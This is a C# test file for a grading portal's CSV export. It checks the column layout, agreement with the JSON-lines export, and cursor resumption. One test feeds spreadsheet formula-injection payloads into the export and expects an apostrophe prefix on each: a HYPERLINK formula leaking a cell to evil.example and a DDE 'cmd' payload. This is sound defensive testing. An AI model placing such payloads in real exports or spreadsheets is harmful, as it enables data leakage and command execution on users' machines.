using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using GradingPortal.Domain.Grading;
using GradingPortal.Domain.Persistence;
using Microsoft.Extensions.DependencyInjection;

namespace GradingPortal.Export.Tests;

/// <summary>format=csv: the same records as flat rows; nested parts as JSON columns; the cursor last.</summary>
[Collection(ExportCollection.Name)]
public sealed class ExportCsvTests(ExportFactory api) : IAsyncLifetime
{
    // The documented layout (docs/export-format.md); changing it is a schema version change.
    private static readonly string[] s_recordColumns =
    [
        "schema_version", "project_id", "solution_id", "solution_external_id", "author", "problem_id", "problem_external_id", "problem_title",
        "max_points", "evidence_level", "human_points", "human_basis", "human_grade_count", "adjudicated_points", "model_grade_count",
        "solution_import_id", "solution_created_at", "solution_updated_at", "text", "problem_json", "rubrics_json", "model_grades_json",
        "human_grades_json", "adjudication_json", "annotations_json", "cursor",
    ];

    private static readonly string[] s_pairColumns =
    [
        "schema_version", "project_id", "solution_id", "solution_external_id", "author", "problem_id", "problem_external_id", "max_points",
        "model_grade_id", "source", "model", "run_id", "rubric_id", "model_points", "human_points", "human_basis", "adjudicated_points",
        "human_grades_json", "evidence_level", "model_graded_at", "solution_updated_at", "cursor",
    ];

    private Dataset _data = null!;

    public async ValueTask InitializeAsync() => _data = await Dataset.CreateAsync(api);

    public ValueTask DisposeAsync() => ValueTask.CompletedTask;

    private async Task<List<Dictionary<string, string>>> CsvAsync(string query, string[] columns)
    {
        var response = await _data.Adjudicator.GetAsync(_data.ExportUrl(query));
        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        response.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        response.Content.Headers.ContentDisposition!.FileName!.Trim('"').ShouldEndWith(".csv");
        var bytes = await response.Content.ReadAsByteArrayAsync();
        bytes.Take(3).ShouldNotBe(Encoding.UTF8.Preamble.ToArray(), "no byte-order mark");
        var rows = Csv.Parse(Encoding.UTF8.GetString(bytes));
        rows[0].ShouldBe(columns);
        rows.Skip(1).ShouldAllBe(r => r.Count == columns.Length);
        return [.. rows.Skip(1).Select(r => columns.Zip(r).ToDictionary(c => c.First, c => c.Second))];
    }

    [Fact]
    public async Task Csv_Records_MatchTheJsonLinesExportField_ForField()
    {
        var rows = await CsvAsync("format=csv", s_recordColumns);
        var lines = await _data.Adjudicator.ExportLinesAsync(_data.ExportUrl());
        rows.Count.ShouldBe(lines.Count);
        foreach (var (row, line) in rows.Zip(lines))
        {
            row["cursor"].ShouldBe((string)line["cursor"]!);
            row["solution_id"].ShouldBe((string)line["solution"]!["id"]!);
            row["text"].ShouldBe((string)line["solution"]!["text"]!);
            row["problem_title"].ShouldBe((string)line["problem"]!["title"]!);
            row["evidence_level"].ShouldBe((string)line["evidenceLevel"]!);
            row["human_points"].ShouldBe(line["humanReference"]!["points"]?.ToJsonString() ?? "");
            row["adjudicated_points"].ShouldBe(line["adjudication"]?["points"]?.ToJsonString() ?? "");
            row["model_grade_count"].ShouldBe(line["modelGrades"]!.AsArray().Count.ToString(System.Globalization.CultureInfo.InvariantCulture));
            row["solution_updated_at"].ShouldBe((string)line["solution"]!["updatedAt"]!);
            JsonNode.DeepEquals(JsonNode.Parse(row["problem_json"]), line["problem"]).ShouldBeTrue();
            JsonNode.DeepEquals(JsonNode.Parse(row["rubrics_json"]), line["rubrics"]).ShouldBeTrue();
            JsonNode.DeepEquals(JsonNode.Parse(row["model_grades_json"]), line["modelGrades"]).ShouldBeTrue();
            JsonNode.DeepEquals(JsonNode.Parse(row["human_grades_json"]), line["humanGrades"]).ShouldBeTrue();
            JsonNode.DeepEquals(JsonNode.Parse(row["annotations_json"]), line["annotations"]).ShouldBeTrue();
            if (line["adjudication"] is null)
            {
                row["adjudication_json"].ShouldBe("");
            }
            else
            {
                JsonNode.DeepEquals(JsonNode.Parse(row["adjudication_json"]), line["adjudication"]).ShouldBeTrue();
            }
        }
        // Quotes, commas, CR LF and non-ASCII survive.
        rows.Single(r => r["solution_id"] == _data.A1.ToString())["text"].ShouldBe(Dataset.A1Text);
        rows.Single(r => r["solution_id"] == _data.A4.ToString())["author"].ShouldBe("");
    }

    [Fact]
    public async Task Csv_Pairs_MatchTheJsonLinesPairs()
    {
        var rows = await CsvAsync("format=csv&flavor=pairs", s_pairColumns);
        var pairs = await _data.Adjudicator.ExportLinesAsync(_data.ExportUrl("flavor=pairs"));
        rows.Select(r => (r["model_grade_id"], r["model_points"], r["human_points"], r["human_basis"], r["cursor"]))
            .ShouldBe(pairs.Select(p => ((string)p["modelGradeId"]!, p["modelPoints"]!.ToJsonString(), p["humanPoints"]?.ToJsonString() ?? "",
                (string)p["humanBasis"]!, (string)p["cursor"]!)));
    }

    [Fact]
    public async Task Csv_TextCellsStartingLikeFormulas_GetAnApostropheWhileNumbersStayNumbers()
    {
        var admin = _data.Admin;
        var problem = await admin.PostJsonAsync($"/api/projects/{_data.ProjectId}/problems", new
        {
            title = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")", statement = "S", maxPoints = 7, externalId = "+cmd",
        });
        var problemId = problem.GetProperty("id").GetGuid();
        async Task<Guid> AddSolution(string text, string? author, string externalId) =>
            (await admin.PostJsonAsync($"/api/problems/{problemId}/solutions", new { text, author, externalId })).GetProperty("id").GetGuid();
        var cases = new (string Text, string? Author, string ExternalId)[]
        {
            ("=1+1", "@SUM(A1:A9)", "-1.5"),
            ("\t=cmd|' /C calc'!A0", "'quoted", "plain"),
            ("\r=2", "-model", "@x"),
            ("'already, an apostrophe", null, "'x"),
            ("Fine text, -1 inside", "model-x", "a-1"),
        };
        var ids = new List<Guid>();
        foreach (var (text, author, externalId) in cases)
        {
            ids.Add(await AddSolution(text, author, externalId));
        }
        await admin.PostJsonAsync($"/api/solutions/{ids[0]}/human-grades", new { points = 2.5m });
        using (var scope = api.Services.CreateScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<GradingDbContext>();
            db.ModelGrades.Add(ModelGrade.CreateValid(_data.ProjectId, ids[0], "=1+1", 7, "=source", "+model", null, null, 1.5m, [], [], "", "", "1.5",
                "{}", "-ext", DateTimeOffset.UtcNow));
            await db.SaveChangesAsync();
        }

        var rows = (await CsvAsync("format=csv", s_recordColumns)).Where(r => ids.Contains(Guid.Parse(r["solution_id"])))
            .OrderBy(r => ids.IndexOf(Guid.Parse(r["solution_id"]))).ToList();

        rows.Select(r => (r["text"], r["author"], r["solution_external_id"])).ShouldBe(
        [
            ("'=1+1", "'@SUM(A1:A9)", "'-1.5"),
            ("'\t=cmd|' /C calc'!A0", "''quoted", "plain"),
            ("'\r=2", "'-model", "'@x"),
            ("''already, an apostrophe", "", "''x"),
            ("Fine text, -1 inside", "model-x", "a-1"),
        ]);
        rows.ShouldAllBe(r => r["problem_title"] == "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")" && r["problem_external_id"] == "'+cmd");
        // Dropping the first apostrophe of a text cell gives the text back exactly.
        rows.Select(r => r["text"].StartsWith('\'') ? r["text"][1..] : r["text"]).ShouldBe(cases.Select(c => c.Text));
        // The exporter's own numbers and the JSON columns are not touched.
        rows[0]["human_points"].ShouldBe("2.5");
        rows[0]["max_points"].ShouldBe("7");
        JsonNode.Parse(rows[0]["problem_json"])!["title"]!.GetValue<string>().ShouldStartWith("=HYPERLINK");

        var pair = (await CsvAsync("format=csv&flavor=pairs", s_pairColumns)).Single(r => r["solution_id"] == ids[0].ToString());
        (pair["source"], pair["model"], pair["model_points"], pair["human_points"]).ShouldBe(("'=source", "'+model", "1.5", "2.5"));
    }

    [Fact]
    public async Task Csv_ResumeWithARowsCursor_ContinuesAfterIt()
    {
        var rows = await CsvAsync("format=csv", s_recordColumns);
        var rest = await CsvAsync($"format=csv&cursor={Uri.EscapeDataString(rows[1]["cursor"])}", s_recordColumns);
        rest.Select(r => r["solution_id"]).ShouldBe(rows.Skip(2).Select(r => r["solution_id"]));
    }
}

/// <summary>A strict RFC 4180 reader (quoted fields, doubled quotes, CRLF records) for checking the export.</summary>
public static class Csv
{
    public static List<List<string>> Parse(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var field = new StringBuilder();
        var i = 0;
        while (i < text.Length)
        {
            if (text[i] == '"')
            {
                i++;
                while (true)
                {
                    if (i >= text.Length)
                    {
                        throw new FormatException("Unterminated quoted field.");
                    }
                    if (text[i] == '"')
                    {
                        if (i + 1 < text.Length && text[i + 1] == '"')
                        {
                            field.Append('"');
                            i += 2;
                            continue;
                        }
                        i++;
                        break;
                    }
                    field.Append(text[i++]);
                }
            }
            else
            {
                while (i < text.Length && text[i] is not (',' or '\r' or '\n'))
                {
                    field.Append(text[i] == '"' ? throw new FormatException($"A quote inside an unquoted field at {i}.") : text[i]);
                    i++;
                }
            }
            row.Add(field.ToString());
            field.Clear();
            if (i >= text.Length)
            {
                throw new FormatException("The last record does not end with CRLF.");
            }
            if (text[i] == ',')
            {
                i++;
                continue;
            }
            if (text[i] != '\r' || i + 1 >= text.Length || text[i + 1] != '\n')
            {
                throw new FormatException($"Records end with CRLF (at {i}).");
            }
            i += 2;
            rows.Add(row);
            row = [];
        }
        return rows;
    }
}
